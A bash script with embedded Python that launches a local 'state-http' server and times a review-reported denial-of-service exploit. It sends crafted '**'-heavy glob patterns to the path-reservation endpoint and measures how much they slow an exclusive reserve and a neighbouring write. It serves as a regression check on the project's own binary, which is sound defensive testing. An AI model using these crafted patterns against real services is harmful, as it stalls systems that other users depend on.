#!/bin/bash
# Measures the crafted-glob reservation exploit from the review against a release state-http.
set -u
BIN=${1:-target/release/state-http}
D=$(mktemp -d)
export STATE_RUNTIME_DIR=$D/run
$BIN --db $D/s.redb --listen 127.0.0.1:17499 --tools all --owner-idle 2s 2>$D/log &
PID=$!
for i in $(seq 50); do curl -s http://127.0.0.1:17499/healthz >/dev/null && break; sleep 0.1; done
python3 - <<'PY'
import json, string, time, urllib.request, threading
a = string.ascii_letters + string.digits
p = lambda o: ('**' + '**'.join(a[(o + i) % 62] for i in range(86)))[:256]
def post(path, body):
    req = urllib.request.Request('http://127.0.0.1:17499' + path, data=json.dumps(body).encode(), method='POST', headers={'content-type': 'application/json'})
    try:
        with urllib.request.urlopen(req, timeout=120) as r: return r.status
    except urllib.error.HTTPError as e: return e.code
def put(key):
    req = urllib.request.Request('http://127.0.0.1:17499/v1/kv/' + key, data=b'1', method='PUT', headers={'content-type': 'application/json'})
    with urllib.request.urlopen(req, timeout=120) as r: return r.status
post('/v1/paths:reserve', {'scope': 'patho', 'holder_id': 'evil', 'patterns': [p(k) for k in range(32)], 'ttl_seconds': 600, 'exclusive': False})
t0 = time.time()
status = post('/v1/paths:reserve', {'scope': 'patho', 'holder_id': 'good', 'patterns': [p(k + 5) for k in range(32)], 'ttl_seconds': 600, 'exclusive': True})
reserve = time.time() - t0
# A neighbour's write while the crafted reserve runs.
results = {}
def crafted():
    results['status'] = post('/v1/paths:reserve', {'scope': 'patho', 'holder_id': 'good2', 'patterns': [p(k + 9) for k in range(32)], 'ttl_seconds': 600, 'exclusive': True})
t = threading.Thread(target=crafted); t.start(); time.sleep(0.005)
t1 = time.time(); put('neighbour'); neighbour = time.time() - t1
t.join()
print(f"crafted exclusive reserve: {reserve*1000:.1f} ms (HTTP {status}); a neighbour's PUT during another: {neighbour*1000:.1f} ms")
PY
kill $PID; wait $PID 2>/dev/null; rm -rf $D
